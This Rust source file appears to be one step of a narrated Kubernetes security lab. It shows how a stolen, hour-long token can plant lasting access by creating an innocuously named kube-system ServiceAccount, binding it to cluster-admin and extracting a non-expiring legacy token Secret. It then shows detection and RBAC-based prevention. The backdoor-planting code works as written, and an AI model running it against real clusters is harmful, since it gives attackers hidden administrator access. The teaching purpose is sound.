//! What an hour is enough for. On the lab only.

use super::stored::report;
use super::use_it::with_token;
use super::{Stage, Told, left_out};
use crate::search::search;
use crate::{BearerToken, Failure, in_time, unverified_claims};
use chrono::TimeDelta;
use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::{ClusterRoleBinding, RoleRef, Subject};
use kube::api::{Api, ObjectMeta, PostParams};
use narration::Story;
use std::collections::BTreeMap;
use std::io::Write;

const NAMESPACE: &str = "kube-system";
const NAME: &str = "backup-helper";
const TYPE: &str = "kubernetes.io/service-account-token";

pub(super) async fn tell<W: Write>(story: &mut Story<W>, stage: &Stage<'_>) -> Told {
    story.step("Leave something behind")?;
    let Some(lab) = stage.lab else {
        return left_out(story, "this makes an account, a binding and a Secret.");
    };
    story.say(
        "Somebody has got hold of a token. It is good for an hour, and here everybody may do \
         everything. With nothing but that token they make an account with a harmless name, bind \
         it to the role that may do all, and make a Secret of a type that has been there since \
         the beginning: a controller puts a token into it.",
    )?;
    let captured = stage.another_token().await?;
    story.lines(format!(
        "ServiceAccount      {NAMESPACE}/{NAME}\n\
         ClusterRoleBinding  {NAME}, to cluster-admin\n\
         Secret              {NAMESPACE}/{NAME}, of type\n\
         {0:20}{TYPE}",
        ""
    ))?;
    let left = leave_behind(stage, &captured).await?;
    story.say(
        "The binding does nothing yet, where everybody may do everything. It waits for the day on \
         which you turn RBAC on.",
    )?;
    let claims = unverified_claims(&left).unwrap_or_default();
    story.say("What the Secret then holds is a JWT as well. It claims:")?;
    story.rows(&[
        ("for whom it speaks (sub)", claims.subject),
        ("who made it (iss)", claims.issuer),
        (
            "ends (exp)",
            claims.expires_at.map_or("never: it has no exp".to_owned(), |exp| exp.to_string()),
        ),
        ("where it is stored", format!("Secret {NAMESPACE}/{}", claims.legacy.secret_name)),
    ])?;

    lab.wait(TimeDelta::days(365));
    story.say("A year later, the token that was captured:")?;
    stage.attempt(story, &stage.nobody, with_token(stage, &captured)?).await?;
    story.say("And the one that it left behind:")?;
    stage.attempt(story, &stage.nobody, with_token(stage, &left)?).await?;

    story.say("This kind is stored, so the search of step 5 finds it:")?;
    report(story, &search(&stage.user, &left).await?)?;
    story.say(
        "Deleting the Secret ends it. What keeps it from happening is a captured token that may \
         do little: `microk8s enable rbac`, and an account for each purpose with the few rights \
         that it needs.",
    )?;
    Ok(())
}

/// All of it with the captured token; gives the token that stays.
async fn leave_behind(stage: &Stage<'_>, captured: &BearerToken) -> Result<BearerToken, Failure> {
    let thief = stage.cluster.bearing(captured)?;
    let plain = PostParams::default();
    let named = |name: &str| ObjectMeta { name: Some(name.to_owned()), ..ObjectMeta::default() };

    let account = ServiceAccount { metadata: named(NAME), ..ServiceAccount::default() };
    let accounts: Api<ServiceAccount> = Api::namespaced(thief.clone(), NAMESPACE);
    in_time(accounts.create(&plain, &account)).await?;

    let binding = ClusterRoleBinding {
        metadata: named(NAME),
        role_ref: RoleRef {
            api_group: Some("rbac.authorization.k8s.io".to_owned()),
            kind: "ClusterRole".to_owned(),
            name: "cluster-admin".to_owned(),
        },
        subjects: Some(vec![Subject {
            kind: "ServiceAccount".to_owned(),
            name: NAME.to_owned(),
            namespace: Some(NAMESPACE.to_owned()),
            ..Subject::default()
        }]),
    };
    let bindings: Api<ClusterRoleBinding> = Api::all(thief.clone());
    in_time(bindings.create(&plain, &binding)).await?;

    let for_account = ("kubernetes.io/service-account.name".to_owned(), NAME.to_owned());
    let secret = Secret {
        metadata: ObjectMeta { annotations: Some(BTreeMap::from([for_account])), ..named(NAME) },
        type_: Some(TYPE.to_owned()),
        ..Secret::default()
    };
    let secrets: Api<Secret> = Api::namespaced(thief, NAMESPACE);
    in_time(secrets.create(&plain, &secret)).await?;

    let filled = in_time(secrets.get(NAME)).await?.data.unwrap_or_default();
    let token = filled.get("token").map(|token| String::from_utf8_lossy(&token.0));
    BearerToken::read(token.as_deref().unwrap_or_default())
        .map_err(|error| Failure::NotKubernetes(format!("a token Secret whose token {error}")))
}
